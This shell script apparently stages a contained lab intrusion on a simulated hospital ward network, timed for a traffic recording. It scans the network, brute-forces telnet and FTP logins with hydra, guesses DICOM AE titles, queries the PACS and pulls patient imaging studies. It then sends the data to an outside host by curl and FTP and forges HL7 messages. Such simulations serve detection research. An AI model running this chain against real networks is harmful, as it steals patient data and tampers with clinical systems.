# The intrusion of the night recording: sourced by ward.sh. Every load is bounded in count; nothing leaves the namespaces.

# step ID MINUTE FUNCTION: wait for the minute, act, note when the step began and ended (seconds since 1970).
step() {
	local id=$1 begin
	at "$2"
	begin=$(date +%s.%N)
	echo "== $id"
	(cd "$RUN/intruder" && "$3" </dev/null) || echo "step $id: exit $?"
	printf '%s\t%s\t%s\n' "$id" "$begin" "$(date +%s.%N)" >>"$STEPS"
}

intrude() {
	STEPS=$1
	: >"$STEPS"
	mkdir -p "$RUN/intruder/loot"
	write_lists
	step join 22 intruder_join
	step discover 22.7 intruder_discover
	step portscan 23.6 intruder_portscan
	step addressscan 24.5 intruder_addressscan
	step telnet 25.5 intruder_telnet
	step ftp 27.5 intruder_ftp
	step aetitle 29 intruder_aetitle
	step query 31 intruder_query
	step pull 31.8 intruder_pull
	step upload 33.2 intruder_upload
	step forge 34.5 intruder_forge
}

# Word lists that end with the right one.
write_lists() {
	local user word
	{
		for user in root admin guest; do
			for word in 123456 password admin root 1234 qwerty letmein changeme 0000 pump; do echo "$user:$word"; done
		done
		for word in service 12345 pump infusion; do echo "service:$word"; done
	} >"$RUN/intruder/words"
	cp "$RUN/intruder/words" "$RUN/intruder/telnet.words"
	# thrice, since hydra drops the pair that it holds when the login program hangs up
	for word in 1 2 3; do echo "service:Ward7-mend" >>"$RUN/intruder/telnet.words"; done
	{
		cat "$RUN/intruder/words"
		for word in ftp upload config backup; do echo "ftp:$word"; done
		echo "service:Ward7-mend"
	} >"$RUN/intruder/ftp.words"
	printf '%s\n' ORTHANC DCM4CHEE STORESCP ARCHIVE DICOM CTSCP MRSCP AE_TITLE HOSPITAL RADIOLOGY SERVER VIEWER MAIN \
		CONQUESTSRV1 HOROS OSIRIX CLEARCANVAS IMAGING PACS1 PACS >"$RUN/intruder/called.words"
}

intruder_join() {
	lease intruder "" dhclient raspberrypi
	local try
	for try in $(seq 20); do
		sleep 1
		if ip -n "$NET-intruder" -4 addr show dev eth0 | grep -q "$LAN.66/"; then return 0; fi
	done
	return 1
}

intruder_discover() {
	in_host intruder arp-scan --interface=eth0 --retry=1 --interval=10 "$LAN.0/24"
	sleep 3
	in_host intruder nmap -sn "$LAN.0/24"
}

intruder_portscan() {
	in_host intruder nmap -n -Pn -sS -T4 --max-retries 1 "$LAN.43"
}

# The ward, then the first 64 addresses of the neighbouring VLAN, which the router drops. On the ward itself a SYN can only go
# to a host that answered ARP.
intruder_addressscan() {
	in_host intruder nmap -n -Pn -sS -T4 --max-retries 0 -p 23,104,4242,11112 "$LAN.0/24" 10.20.1.0/26
}

# type_lines LINE...: what a hand at the keyboard sends, with its pauses.
type_lines() {
	local line
	sleep 2
	for line in "$@"; do
		printf '%s\n' "$line"
		sleep 1.5
	done
}

intruder_telnet() {
	in_host intruder hydra -I -f -t 3 -C telnet.words telnet://"$LAN.43"
	sleep 3
	type_lines service Ward7-mend id 'ls -l' 'cat pump.conf' 'tail -n 3 log/events.txt' exit |
		in_host intruder inetutils-telnet "$LAN.43" || true
}

intruder_ftp() {
	in_host intruder hydra -I -t 4 -C ftp.words ftp://"$LAN.43"
	sleep 2
	in_host intruder curl -s -m 20 -o loot/pump.conf "ftp://service:Ward7-mend@$LAN.43/pump.conf"
}

# The called title first, with nmap; then a calling title that the PACS serves, by trying queries.
intruder_aetitle() {
	local title
	in_host intruder nmap -n -Pn -p 11112 --script dicom-ping,dicom-brute --script-args passdb=called.words "$LAN.10"
	for title in ECHOSCU FINDSCU VIEWER CT CT1 CT01; do
		in_host intruder findscu -S -aet "$title" -aec PACS "$LAN.10" 11112 -k QueryRetrieveLevel=STUDY -k PatientID=NOBODY ||
			echo "calling title $title is refused"
		sleep 1
	done
}

intruder_query() {
	rm -rf found && mkdir found
	in_host intruder findscu -P -aet CT01 -aec PACS "$LAN.10" 11112 -k QueryRetrieveLevel=PATIENT \
		-k 'PatientName=*' -k PatientID -k PatientBirthDate -k PatientSex
	sleep 5
	in_host intruder findscu -S -aet CT01 -aec PACS "$LAN.10" 11112 -X -od found -k QueryRetrieveLevel=STUDY \
		-k 'PatientName=*' -k PatientID -k StudyDate=20200101-20301231 -k StudyInstanceUID -k StudyDescription -k ModalitiesInStudy
	ls found | wc -l
}

intruder_pull() {
	local reply uid
	for reply in found/*.dcm; do
		uid=$(dcmdump +P StudyInstanceUID "$reply" | sed 's/.*\[\(.*\)\].*/\1/')
		in_host intruder getscu -S -aet CT01 -aec PACS "$LAN.10" 11112 -od loot \
			-k QueryRetrieveLevel=STUDY -k "StudyInstanceUID=$uid"
		sleep 1
	done
	du -sh loot
}

# Four ultrasound images leave as a web form, everything else as one archive over FTP, both in clear.
intruder_upload() {
	local form=() file us=(loot/US*)
	"$PYTHON" -c 'import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_STORED) as z:
    for name in sys.argv[2:]: z.write(name)' loot.zip loot/CT* "${us[@]:4}"
	for file in "${us[@]:0:4}"; do form+=(-F "file=@$file;type=application/dicom"); done
	in_host intruder curl -s -m 60 -H 'Expect:' -o /dev/null "${form[@]}" "http://$OUTSIDE.9/up"
	sleep 5
	in_host intruder curl -s -m 60 -T loot.zip "ftp://box:b0x-of-things@$OUTSIDE.9/"
	ls -l loot.zip
}

intruder_forge() {
	in_host intruder "$PYTHON" "$LAB/peers/hl7send.py" forge "$LAN.20" 2575 "$RUN/sent.jsonl"
}
